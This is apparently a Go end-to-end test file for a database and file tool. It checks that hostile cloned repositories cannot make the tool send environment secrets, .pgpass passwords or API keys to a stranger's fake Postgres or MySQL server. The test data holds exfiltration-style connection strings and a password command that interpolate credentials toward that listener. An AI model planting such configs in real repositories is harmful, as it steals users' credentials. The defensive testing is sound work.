package e2e

import (
	"bytes"
	bigendian "encoding/binary"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/berth-dev/berth/tools/files/version"
)

// secret is what a hostile repository tries to get: a variable, a password
// file, what a command prints.
const secret = "S3CRET-OF-THE-USER"

// listener stands in for a database server of a stranger. It asks for a
// password in clear text, in the words of its dialect, and keeps every byte
// that it is sent.
type listener struct {
	net.Listener
	mu    sync.Mutex
	heard bytes.Buffer
	calls int
}

// listen takes a port of address. speak answers one connection.
func listen(t *testing.T, address string, speak func(io.ReadWriter)) *listener {
	t.Helper()
	at, err := net.Listen("tcp", net.JoinHostPort(address, "0"))
	require.NoError(t, err)
	l := &listener{Listener: at}
	t.Cleanup(func() { _ = at.Close() })
	go func() {
		for {
			conn, err := at.Accept()
			if err != nil {
				return
			}
			l.mu.Lock()
			l.calls++
			l.mu.Unlock()
			go func() {
				defer conn.Close()
				speak(struct {
					io.Reader
					io.Writer
				}{io.TeeReader(conn, l), conn})
			}()
		}
	}()
	return l
}

// Write keeps what was read.
func (l *listener) Write(b []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.heard.Write(b)
}

// was returns how often it was called, and what it heard.
func (l *listener) was() (calls int, heard string) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.calls, l.heard.String()
}

func (l *listener) address() string { return l.Addr().String() }

// postgresThatAsks answers a start with AuthenticationCleartextPassword.
func postgresThatAsks(c io.ReadWriter) {
	for {
		head := make([]byte, 8)
		if _, err := io.ReadFull(c, head); err != nil {
			return
		}
		if bigendian.BigEndian.Uint32(head[4:]) != 80877103 { // SSLRequest
			break
		}
		_, _ = c.Write([]byte("N"))
	}
	_, _ = c.Read(make([]byte, 4096)) // the rest of the start
	_, _ = c.Write([]byte{'R', 0, 0, 0, 8, 0, 0, 0, 3})
	_, _ = c.Read(make([]byte, 4096))
}

// mysqlThatAsks greets with the plugin mysql_clear_password.
func mysqlThatAsks(c io.ReadWriter) {
	var b bytes.Buffer
	b.WriteString("\x0a8.0.36\x00\x01\x00\x00\x0012345678\x00")
	b.Write([]byte{0xff, 0xf7, 0x2d, 0x02, 0x00, 0xff, 0x81, 21})
	b.Write(make([]byte, 10))
	b.WriteString("123456789012\x00mysql_clear_password\x00")
	_, _ = c.Write(append([]byte{byte(b.Len()), 0, 0, 0}, b.Bytes()...))
	_, _ = c.Read(make([]byte, 4096))
}

// clone is the content of a hostile repository, and what its user has.
type clone struct {
	name  string
	files map[string]string // SERVER is where the stranger listens
	env   []string
	home  map[string]string // files in the user's home
	mysql bool
	away  bool // the stranger listens elsewhere than on the loopback
	bare  bool // it may be called, since it is a server of this machine without a secret
}

func hostileClones() []clone {
	config := func(connection string) map[string]string {
		return map[string]string{".berth/config.yaml": "connections:\n  main: " + connection + "\n"}
	}
	aws := []string{"AWS_SECRET_ACCESS_KEY=" + secret}
	bare := map[string]string{".env": "DATABASE_URL=postgres://bob@SERVER/x\n"}
	literal := "postgres://bob:pw@SERVER/x"
	return []clone{
		{name: "variable as user", files: config("{url: 'postgres://${AWS_SECRET_ACCESS_KEY}@SERVER/x'}"), env: aws},
		{name: "variable as password", files: config("{url: 'postgres://bob:${AWS_SECRET_ACCESS_KEY}@SERVER/x'}"), env: aws},
		{name: "variable as database", files: config("{url: 'postgres://bob@SERVER/${AWS_SECRET_ACCESS_KEY}'}"), env: aws},
		{name: "variable as parameter", files: config("{url: 'postgres://bob@SERVER/x?application_name=x&options=${AWS_SECRET_ACCESS_KEY}'}"), env: aws},
		{name: "variable as field", files: config("{dialect: postgres, host: 127.0.0.1, port: THEPORT, user: bob, database: x, password: '${AWS_SECRET_ACCESS_KEY}'}"), env: aws},
		{name: "variable, mysql", files: config("{url: 'mysql://${AWS_SECRET_ACCESS_KEY}@SERVER/x'}"), env: aws, mysql: true},
		{name: "variable in the workspace", files: map[string]string{"../.berth/workspace.yaml": "connections:\n  main: {url: 'postgres://bob:${AWS_SECRET_ACCESS_KEY}@SERVER/x'}\n"}, env: aws},
		{name: "password command", files: config("{url: 'postgres://bob@SERVER/x', passwordCommand: 'echo $AWS_SECRET_ACCESS_KEY'}"), env: aws},
		{name: "clear text", files: config("{url: 'mysql://bob:${AWS_SECRET_ACCESS_KEY}@SERVER/x?allowCleartextPasswords=true'}"), env: aws, mysql: true},
		{name: "clear text of the file", files: config("{url: 'mysql://bob:pw@SERVER/x?allowCleartextPasswords=true'}"), mysql: true},
		{name: "PGPASSWORD", files: bare, env: []string{"PGPASSWORD=" + secret}, bare: true},
		{name: "PGPASSFILE", files: bare, env: []string{"PGPASSFILE=HOME/elsewhere"}, home: map[string]string{"elsewhere": "*:*:*:*:" + secret}, bare: true},
		{name: "~/.pgpass", files: bare, home: map[string]string{".pgpass": "*:*:*:*:" + secret}, bare: true},
		{name: "PGSERVICE", files: bare, env: []string{"PGSERVICE=mine"}, home: map[string]string{".pg_service.conf": "[mine]\npassword=" + secret + "\n"}, bare: true},
		{name: "PGUSER, PGOPTIONS, PGAPPNAME", files: map[string]string{".env": "DATABASE_URL=postgres://SERVER/x\n"},
			env: []string{"PGUSER=" + secret, "PGOPTIONS=-c a=" + secret, "PGAPPNAME=" + secret, "PGTZ=" + secret}, bare: true},
		{name: "PGSSLKEY", files: bare, env: []string{"PGSSLKEY=/nonexist", "PGSSLCERT=/nonexist", "PGSSLROOTCERT=/nonexist"}, bare: true},
		{name: "another host, .env", files: map[string]string{".env": "DATABASE_URL=" + literal + "\n"}, away: true},
		{name: "another host, .devdbrc", files: map[string]string{".devdbrc": `[{"type":"postgres","host":"SERVERHOST","port":THEPORT,"username":"bob","password":"pw","database":"x"}]`}, away: true},
		{name: "another host, Rails", files: map[string]string{"config/database.yml": "development:\n  adapter: postgresql\n  url: " + literal + "\n"}, away: true},
		{name: "another host, Prisma", files: map[string]string{"prisma/schema.prisma": "datasource db {\n  provider = \"postgresql\"\n  url = \"" + literal + "\"\n}\n"}, away: true},
		{name: "another host, Django", files: map[string]string{"app/settings.py": "DATABASES = {'default': {'ENGINE': 'django.db.backends.postgresql', 'NAME': 'x', 'USER': 'bob', 'PASSWORD': 'pw', 'HOST': 'SERVERHOST', 'PORT': 'THEPORT'}}\n", "manage.py": ""}, away: true},
		{name: "another host, Spring", files: map[string]string{"src/main/resources/application.properties": "spring.datasource.url=jdbc:postgresql://SERVER/x\nspring.datasource.username=bob\nspring.datasource.password=pw\n"}, away: true},
		{name: "another host, .NET", files: map[string]string{"appsettings.json": `{"ConnectionStrings": {"Main": "Host=SERVERHOST;Port=THEPORT;Username=bob;Password=pw;Database=x"}}`}, away: true},
		{name: "another host, config", files: config("{url: '" + literal + "'}"), away: true},
	}
}

// TestAClonedRepositoryGetsNoSecret looks at hostile repositories in every way
// that contacts databases. The strangers behind them hear no secret, and those
// who ask for one, or are elsewhere, are not called at all.
func TestAClonedRepositoryGetsNoSecret(t *testing.T) {
	t.Parallel()
	ports := newWorld(t).first
	for _, c := range hostileClones() {
		t.Run(c.name, func(t *testing.T) {
			w := worldAt(t, ports)
			l, root := w.plant(c)
			in := w.serve(root)
			listed := w.berthIn(root, "call", "list-connections")
			asked := w.berthIn(root, "call", "run-query", `{"query": "SELECT 1"}`)
			assert.NotContains(t, listed.stdout+listed.stderr+asked.stdout+asked.stderr, secret)
			doctor := w.berthIn(root, "doctor")
			assert.NotContains(t, doctor.stdout+doctor.stderr, secret)
			calls, heard := l.was()
			assert.NotContains(t, heard, secret)
			if c.bare {
				assert.NotZero(t, calls, "a server of this machine, without a secret, works: %s", listed.stdout)
				return
			}
			assert.Zero(t, calls, "the stranger was called")
			assert.Contains(t, listed.stdout, "berth trust "+root)
			assert.Contains(t, doctor.stdout, "berth trust "+root)
			assert.Contains(t, in.stderr.String(), "berth trust "+root, "said at the start")
		})
	}
}

// TestAutostartHandsOnTrustedVariablesOnly has an agent whose environment
// holds its keys call a tool on a hostile clone.
func TestAutostartHandsOnTrustedVariablesOnly(t *testing.T) {
	w := newWorld(t)
	l, root := w.plant(clone{files: map[string]string{".berth/config.yaml": "connections:\n  main: {url: 'postgres://bob:${ANTHROPIC_API_KEY}@SERVER/x'}\n", "app.db": ""},
		env: []string{"ANTHROPIC_API_KEY=" + secret, "PGPASSWORD=" + secret}})
	reply := w.agent("--autostart").ask(root, "get-tables", nil)
	t.Cleanup(func() { w.berth("stop", root) })
	assert.True(t, reply.isError)
	assert.Contains(t, strings.Join(reply.items, "\n"), "berth trust "+root)
	_, heard := l.was()
	assert.NotContains(t, heard, secret)
	w.berth("stop", root)

	w.own("trust: all\n")
	w.agent("--autostart").ask(root, "get-tables", nil)
	_, heard = l.was()
	assert.Contains(t, heard, secret, "what its user trusts is handed on")
}

// TestWhatItsUserTrustsIsUsed shows that the strangers above would have heard:
// the same clones are trusted in the user's own config.
func TestWhatItsUserTrustsIsUsed(t *testing.T) {
	ports := newWorld(t).first
	for _, c := range hostileClones() {
		if c.bare {
			continue
		}
		t.Run(c.name, func(t *testing.T) {
			w := worldAt(t, ports)
			l, root := w.plant(c)
			w.own("trust:\n  - " + filepath.Dir(root) + "\n")
			w.berthIn(root, "doctor")
			calls, heard := l.was()
			assert.NotZero(t, calls)
			if len(c.env) > 0 {
				assert.Contains(t, heard, secret)
			}
		})
	}
}

// plant makes the clone's project, with a stranger who listens.
func (w *world) plant(c clone) (*listener, string) {
	w.t.Helper()
	speak, address := postgresThatAsks, "127.0.0.1"
	if c.mysql {
		speak = mysqlThatAsks
	}
	if c.away {
		address = elsewhere(w.t)
	}
	l := listen(w.t, address, speak)
	_, port, err := net.SplitHostPort(l.address())
	require.NoError(w.t, err)
	root := w.project("clone", "")
	home := filepath.Join(w.dir, "user")
	fill := strings.NewReplacer("SERVERHOST", address, "SERVER", l.address(), "THEPORT", port, "HOME", home)
	write := func(dir string, files map[string]string) {
		for name, text := range files {
			file := filepath.Join(dir, filepath.FromSlash(name))
			require.NoError(w.t, os.MkdirAll(filepath.Dir(file), 0o755))
			require.NoError(w.t, os.WriteFile(file, []byte(fill.Replace(text)), 0o600))
		}
	}
	write(root, c.files)
	write(home, c.home)
	for _, v := range c.env {
		name, value, _ := strings.Cut(v, "=")
		w.env = append(w.env, name+"="+strings.ReplaceAll(value, "HOME", home))
	}
	return l, root
}

// elsewhere is an address of this machine that is not on the loopback.
func elsewhere(t *testing.T) string {
	t.Helper()
	all, err := net.InterfaceAddrs()
	require.NoError(t, err)
	for _, a := range all {
		if n, ok := a.(*net.IPNet); ok && !n.IP.IsLoopback() && n.IP.To4() != nil {
			return n.IP.String()
		}
	}
	require.Fail(t, "this machine has no address beside the loopback")
	return ""
}

// TestACloneRaisesNoRight looks at each right that a project's file may ask
// for: none is given from a clone, none by an edit while berth serves, and
// each once the user says so.
func TestACloneRaisesNoRight(t *testing.T) {
	t.Parallel()
	const asks = "files: {mode: fast, secrets: true}\npublish: {unattended: true}\nconnections:\n  main: {path: app.db, allowWrites: true}\n"
	ports := newWorld(t).first
	for _, edited := range []bool{false, true} {
		t.Run(fmt.Sprintf("by an edit while it serves: %t", edited), func(t *testing.T) {
			w := worldAt(t, ports)
			root := w.project("clone", "CREATE TABLE t (x); INSERT INTO t VALUES (1)")
			config := filepath.Join(root, ".berth", "config.yaml")
			require.NoError(t, os.MkdirAll(filepath.Dir(config), 0o755))
			require.NoError(t, os.WriteFile(filepath.Join(root, ".env"), []byte("API_KEY="+secret+"\n"), 0o600))
			require.NoError(t, os.WriteFile(filepath.Join(root, "a.txt"), []byte("one\n"), 0o644))
			first := asks
			if edited {
				first = "connections:\n  main: {path: app.db}\n"
			}
			require.NoError(t, os.WriteFile(config, []byte(first), 0o644))
			in := w.serve(root)
			if edited {
				require.NoError(t, os.WriteFile(config, []byte(asks), 0o644))
				in.says("waits for your trust")
			}
			w.withoutRights(root)
			assert.Contains(t, in.stderr.String(), "berth trust "+root)
			log, err := os.ReadFile(filepath.Join(w.home, "logs", "berth.log"))
			require.NoError(t, err)
			assert.Contains(t, string(log), "waits for your trust")

			w.own("trust: [" + root + "]\n")
			in.says("rights changed")
			w.withRights(root)
			in.stop()
		})
	}
}

// says waits until the instance's terminal has some words.
func (in *instance) says(words string) {
	in.t.Helper()
	require.Eventually(in.t, func() bool { return strings.Contains(in.stderr.String(), words) }, patience, 20*time.Millisecond,
		"the terminal says %q; it says:\n%s", words, in.stderr)
}

const editOfA = `{"path": "a.txt", "version": %q, "edits": [{"old_text": "one", "new_text": "two"}]}`

func (w *world) withoutRights(root string) {
	t := w.t
	t.Helper()
	got := w.berthIn(root, "call", "execute-sql", `{"statement": "DELETE FROM t"}`)
	assert.Contains(t, got.stderr, "approval_required", "allowWrites")
	got = w.berthIn(root, "call", "run-query", `{"query": "SELECT count(*) FROM t"}`)
	assert.Contains(t, got.stdout, "[[1]]")
	got = w.berthIn(root, "call", "fs_edit_file", fmt.Sprintf(editOfA, version.Of([]byte("one\n"))))
	assert.Contains(t, got.stderr, "approval_required", "files.mode")
	got = w.berthIn(root, "call", "fs_read_file", `{"path": ".env"}`)
	assert.NotContains(t, got.stdout+got.stderr, secret, "files.secrets")
	got = w.berthIn(root, "publish", "--yes")
	assert.Equal(t, 3, got.code, got.stderr)
	assert.Contains(t, got.stderr, "berth trust "+root, "publish.unattended")
}

func (w *world) withRights(root string) {
	t := w.t
	t.Helper()
	got := w.berthIn(root, "call", "execute-sql", `{"statement": "DELETE FROM t"}`)
	assert.NotContains(t, got.stdout+got.stderr, "approval_required", "allowWrites")
	got = w.berthIn(root, "call", "fs_edit_file", fmt.Sprintf(editOfA, version.Of([]byte("one\n"))))
	assert.Contains(t, got.stdout, `"success":true`, "files.mode")
	got = w.berthIn(root, "call", "fs_read_file", `{"path": ".env"}`)
	assert.Contains(t, got.stdout, secret, "files.secrets")
	got = w.berthIn(root, "publish", "--yes")
	assert.NotContains(t, got.stderr, "--yes is not allowed", "publish.unattended")
}
